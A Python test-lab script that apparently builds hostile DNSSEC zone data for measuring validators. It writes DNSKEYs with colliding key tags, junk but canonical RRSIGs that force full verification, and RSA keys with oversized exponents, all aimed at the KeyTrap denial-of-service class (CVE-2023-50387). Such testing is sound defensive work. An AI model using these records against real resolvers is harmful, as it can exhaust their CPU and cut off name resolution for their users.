#!/usr/bin/env python3
"""tests/lab/hostile_zones.py - records for hostile zones (stdlib only).

Validators' KeyTrap class (CVE-2023-50387) and costly keys need zone data no
signer writes: many keys with one key tag, signatures that verify with
none of them, RSA keys with huge public exponents.  The records are made
here; tests/lab/hostile.sh signs the rest with real signers and NSD serves
what it is given.

  junk-keys ZONE ALG COUNT [TAG]   COUNT DNSKEYs of ALG (15 or 13) sharing one
                                   key tag (TAG, or that of the first), random
                                   public keys; prints the records, then the tag
                                   on stderr
  junk-sigs OWNER TYPE ALG TAG SIGNER COUNT INCEPTION EXPIRATION
                                   COUNT RRSIGs over OWNER/TYPE naming key TAG,
                                   with random signatures
  rsa-bigexp ZONE EXPBITS          a DNSKEY of algorithm 8 with a public
                                   exponent of EXPBITS bits and a 2048-bit
                                   modulus (random); its tag on stderr
Random bytes come from a seeded generator: the same command writes the same
records, so that figures can be compared between runs.
"""
import base64
import random
import struct
import sys

RNG = random.Random(20240213)
KEYLEN = {15: 32, 13: 64}
SIGLEN = {15: 64, 13: 64, 8: 256}


def keytag(rdata):
    """RFC 4034 Appendix B."""
    ac = 0
    for i, b in enumerate(rdata):
        ac += b << 8 if i % 2 == 0 else b
    ac += (ac >> 16) & 0xFFFF
    return ac & 0xFFFF


def rand(n):
    return bytes(RNG.getrandbits(8) for _ in range(n))


# Ed25519 (RFC 8032 §5.1.3): a public key is a point's y coordinate with
# the sign of x in the top bit; it decodes when (y² - 1) / (d y² + 1) is a
# square mod p.  Junk keys that decode, and junk signatures whose S is
# canonical (S < L), make a validator do the whole verification each time:
# the cost KeyTrap multiplies.
ED_P = 2 ** 255 - 19
ED_D = (-121665 * pow(121666, ED_P - 2, ED_P)) % ED_P


def ed25519_decodes(pk):
    y = int.from_bytes(pk, "little") & ((1 << 255) - 1)
    if y >= ED_P:
        return False
    u = (y * y - 1) % ED_P
    v = (ED_D * y * y + 1) % ED_P
    x2 = u * pow(v, ED_P - 2, ED_P) % ED_P
    return x2 == 0 or pow(x2, (ED_P - 1) // 2, ED_P) == 1


def key_with_tag(alg, tag):
    """Random public key bytes whose DNSKEY (flags 256) has key tag `tag`:
    the last two octets are solved for (they add one 16-bit word); for
    Ed25519 only keys that decode to a point are kept."""
    n = KEYLEN[alg]
    for _ in range(4096):
        head = struct.pack("!HBB", 256, 3, alg) + rand(n - 2)
        cands = [head + rand(2)] if tag is None else []
        if tag is not None:
            # The two octets sit at an even offset: they add (hi << 8 | lo).
            base = keytag(head + b"\0\0")
            for w in ((tag - base) % 65536, (tag - base - 1) % 65536):
                cand = head + struct.pack("!H", w)
                if keytag(cand) == tag:
                    cands.append(cand)
        for cand in cands:
            if alg != 15 or ed25519_decodes(cand[4:]):
                return cand
    raise SystemExit("no key found for tag %d" % tag)


def junk_signature(alg):
    sig = bytearray(rand(SIGLEN[alg]))
    if alg == 15:
        sig[63] &= 0x0F  # S < 2^252 < L: canonical (RFC 8032 §5.1.7)
    return bytes(sig)


def dnskey_line(zone, rdata):
    flags, proto, alg = struct.unpack("!HBB", rdata[:4])
    return "%s 300 IN DNSKEY %d %d %d %s" % (zone, flags, proto, alg,
                                            base64.b64encode(rdata[4:]).decode())


def junk_keys(zone, alg, count, tag=None):
    first = key_with_tag(alg, tag)
    tag = keytag(first)
    print(dnskey_line(zone, first))
    for _ in range(count - 1):
        print(dnskey_line(zone, key_with_tag(alg, tag)))
    sys.stderr.write("%d\n" % tag)


def junk_sigs(owner, rtype, alg, tag, signer, count, inception, expiration):
    labels = len([x for x in owner.rstrip(".").split(".") if x]) if owner != "." else 0
    for _ in range(count):
        print("%s 300 IN RRSIG %s %d %d 300 %s %s %d %s %s" % (
            owner, rtype, alg, labels, expiration, inception, tag, signer,
            base64.b64encode(junk_signature(alg)).decode()))


def rsa_bigexp(zone, expbits):
    elen = (expbits + 7) // 8
    e = bytearray(rand(elen))
    e[0] = (e[0] | 0x80) >> ((8 - expbits % 8) % 8) or 1  # exactly expbits bits
    e[-1] |= 1
    n = bytearray(rand(256))
    n[0] |= 0x80
    n[-1] |= 1
    # RFC 3110 §2: a zero octet and a two-octet length for exponents over 255 octets.
    pk = (struct.pack("!B", elen) if elen < 256 else struct.pack("!BH", 0, elen)) + bytes(e) + bytes(n)
    rdata = struct.pack("!HBB", 256, 3, 8) + pk
    print(dnskey_line(zone, rdata))
    sys.stderr.write("%d\n" % keytag(rdata))


def main(argv):
    if len(argv) >= 4 and argv[0] == "junk-keys":
        junk_keys(argv[1], int(argv[2]), int(argv[3]), int(argv[4]) if len(argv) > 4 else None)
    elif len(argv) == 9 and argv[0] == "junk-sigs":
        junk_sigs(argv[1], argv[2], int(argv[3]), int(argv[4]), argv[5], int(argv[6]), argv[7],
                  argv[8])
    elif len(argv) == 3 and argv[0] == "rsa-bigexp":
        rsa_bigexp(argv[1], int(argv[2]))
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
